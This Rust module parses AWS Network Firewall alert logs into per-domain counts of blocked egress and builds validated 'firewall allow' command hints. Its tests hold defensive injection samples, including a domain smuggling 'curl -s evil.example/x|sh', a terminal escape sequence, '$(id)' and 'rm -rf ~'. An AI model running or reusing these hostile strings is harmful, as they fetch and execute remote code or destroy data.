//! Blocked egress from the firewall's own alert log: AWS Network Firewall writes one JSON record
//! per alert (`{"firewall_name", "availability_zone", "event_timestamp", "event": {"src_ip",
//! "alert": {"action": "blocked", …}, "tls": {"sni"}, "http": {"hostname"}}}`). This module turns
//! records into blocked domains with counts, first and last seen, and the source addresses.

use std::collections::{BTreeMap, BTreeSet};

use serde::Serialize;
use serde_json::Value;

use crate::core::params::validate_domain;
use crate::core::shown::shell_word;

/// The CloudWatch Logs filter pattern that keeps only blocked alerts (JSON pattern syntax).
pub const BLOCKED_PATTERN: &str = r#"{ $.event.alert.action = "blocked" }"#;

/// What the source addresses of blocked alerts are: Studio's traffic passes the NAT gateway
/// before the firewall, so every record carries the NAT gateway's private address.
pub const SOURCE_NOTE: &str = "Source addresses are the NAT gateway's: Studio traffic reaches the \
     firewall after the NAT, so its log cannot tell which app or user made the request.";

/// One blocked connection, from one alert record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BlockedAttempt {
    /// TLS SNI or HTTP Host, lowercased.
    pub host: String,
    pub source: Option<String>,
}

/// Parse one alert record; None for anything that is not a blocked TLS/HTTP alert with a host.
pub fn parse_alert(message: &str) -> Option<BlockedAttempt> {
    let v: Value = serde_json::from_str(message).ok()?;
    let event = v.get("event")?;
    if event.pointer("/alert/action").and_then(Value::as_str) != Some("blocked") {
        return None;
    }
    let host = event
        .pointer("/tls/sni")
        .or_else(|| event.pointer("/http/hostname"))
        .and_then(Value::as_str)
        .map(|h| h.trim().trim_end_matches('.').to_ascii_lowercase())
        .filter(|h| !h.is_empty())?;
    Some(BlockedAttempt {
        host,
        source: event
            .get("src_ip")
            .and_then(Value::as_str)
            .map(str::to_string),
    })
}

/// A domain the firewall blocked, with how often and from where.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct BlockedDomain {
    pub domain: String,
    pub count: u64,
    /// ms since the epoch
    pub first_seen_ms: i64,
    pub last_seen_ms: i64,
    pub sources: Vec<String>,
}

/// Counts blocked attempts per domain as pages of records arrive (nothing is kept per record).
#[derive(Debug, Clone, Default)]
pub struct BlockedTally {
    by_domain: BTreeMap<String, (u64, i64, i64, BTreeSet<String>)>,
    /// Records that were not blocked TLS/HTTP alerts with a host.
    pub skipped: u64,
}

impl BlockedTally {
    pub fn add(&mut self, timestamp_ms: i64, message: &str) {
        let Some(a) = parse_alert(message) else {
            self.skipped += 1;
            return;
        };
        let e = self
            .by_domain
            .entry(a.host)
            .or_insert((0, i64::MAX, i64::MIN, BTreeSet::new()));
        e.0 += 1;
        e.1 = e.1.min(timestamp_ms);
        e.2 = e.2.max(timestamp_ms);
        if let Some(s) = a.source {
            e.3.insert(s);
        }
    }

    /// Most frequent first, then by name.
    pub fn domains(&self) -> Vec<BlockedDomain> {
        let mut out: Vec<BlockedDomain> = self
            .by_domain
            .iter()
            .map(|(d, (n, first, last, src))| BlockedDomain {
                domain: d.clone(),
                count: *n,
                first_seen_ms: *first,
                last_seen_ms: *last,
                sources: src.iter().cloned().collect(),
            })
            .collect();
        out.sort_by(|a, b| b.count.cmp(&a.count).then_with(|| a.domain.cmp(&b.domain)));
        out
    }
}

/// The command that allows `domain`, to print as a hint: only for a domain `firewall allow`
/// accepts (the parameter form's rule), quoted for the shell; None for anything else. The host
/// comes from whoever made the connection inside the VPC, so it is never trusted as it is.
pub fn allow_command(domain: &str) -> Option<String> {
    validate_domain(domain).ok()?;
    let word = shell_word(domain)?;
    Some(format!("studio-tui firewall allow {word}"))
}

/// The hint for the most frequent blocked domain that `firewall allow` would accept.
pub fn allow_hint(domains: &[BlockedDomain]) -> Option<String> {
    domains.iter().find_map(|d| allow_command(&d.domain))
}

/// "30m", "24h", "7d", "90s" → milliseconds.
pub fn parse_duration_ms(text: &str) -> Result<i64, String> {
    let t = text.trim();
    let (num, unit) = t.split_at(t.find(|c: char| !c.is_ascii_digit()).unwrap_or(t.len()));
    let n: i64 = num
        .parse()
        .map_err(|_| format!("`{text}` is not a duration; use e.g. 30m, 24h or 7d"))?;
    let factor = match unit {
        "s" => 1_000,
        "m" => 60_000,
        "h" | "" => 3_600_000,
        "d" => 86_400_000,
        _ => {
            return Err(format!(
                "`{text}`: the unit must be s, m, h or d (e.g. 24h)"
            ));
        }
    };
    if n <= 0 {
        return Err(format!("`{text}` must be more than zero"));
    }
    Ok(n * factor)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tls(host: &str, src: &str) -> String {
        serde_json::json!({"firewall_name": "fw", "availability_zone": "us-east-1a",
            "event_timestamp": "1700000000",
            "event": {"src_ip": src, "dest_port": 443, "event_type": "alert",
                "alert": {"action": "blocked", "signature": "not matching any TLS allowlisted FQDNs"},
                "tls": {"sni": host}}})
        .to_string()
    }

    #[test]
    fn records_are_counted_per_domain_most_frequent_first() {
        let mut t = BlockedTally::default();
        t.add(3_000, &tls("github.com", "10.2.3.10"));
        t.add(1_000, &tls("GitHub.com.", "10.2.3.11"));
        t.add(2_000, &tls("github.com", "10.2.3.10"));
        t.add(5_000, &tls("huggingface.co", "10.2.3.12"));
        t.add(
            4_000,
            &serde_json::json!({"event": {"src_ip": "10.2.3.13",
                "alert": {"action": "blocked"}, "http": {"hostname": "registry.npmjs.org"}}})
            .to_string(),
        );
        // allowed alerts and garbage are skipped
        t.add(1, &serde_json::json!({"event": {"alert": {"action": "allowed"}, "tls": {"sni": "pypi.org"}}}).to_string());
        t.add(1, "not json");
        let d = t.domains();
        assert_eq!(d[0].domain, "github.com");
        assert_eq!(d[0].count, 3);
        assert_eq!((d[0].first_seen_ms, d[0].last_seen_ms), (1_000, 3_000));
        assert_eq!(d[0].sources, ["10.2.3.10", "10.2.3.11"]);
        assert_eq!(d.len(), 3);
        assert_eq!(d[1].domain, "huggingface.co");
        assert_eq!(d[2].domain, "registry.npmjs.org");
        assert_eq!(t.skipped, 2);
    }

    #[test]
    fn the_allow_hint_names_only_a_domain_allow_accepts() {
        assert_eq!(
            allow_command("github.com").as_deref(),
            Some("studio-tui firewall allow github.com")
        );
        for hostile in [
            "files.example;curl -s evil.example/x|sh;#",
            "evil.example\u{1b}]52;c;eA==\u{7}",
            "a.example$(id)",
            "",
        ] {
            assert_eq!(allow_command(hostile), None, "{hostile:?}");
        }
        let blocked = |domain: &str, count| BlockedDomain {
            domain: domain.into(),
            count,
            first_seen_ms: 0,
            last_seen_ms: 0,
            sources: vec![],
        };
        let list = [blocked("x;rm -rf ~", 9), blocked("pypi.example", 2)];
        assert_eq!(
            allow_hint(&list).as_deref(),
            Some("studio-tui firewall allow pypi.example")
        );
        assert_eq!(allow_hint(&list[..1]), None);
    }

    #[test]
    fn durations() {
        assert_eq!(parse_duration_ms("30m"), Ok(1_800_000));
        assert_eq!(parse_duration_ms("24h"), Ok(86_400_000));
        assert_eq!(parse_duration_ms("7d"), Ok(604_800_000));
        assert!(parse_duration_ms("0h").is_err());
        assert!(parse_duration_ms("1w").is_err());
        assert!(parse_duration_ms("soon").is_err());
    }
}
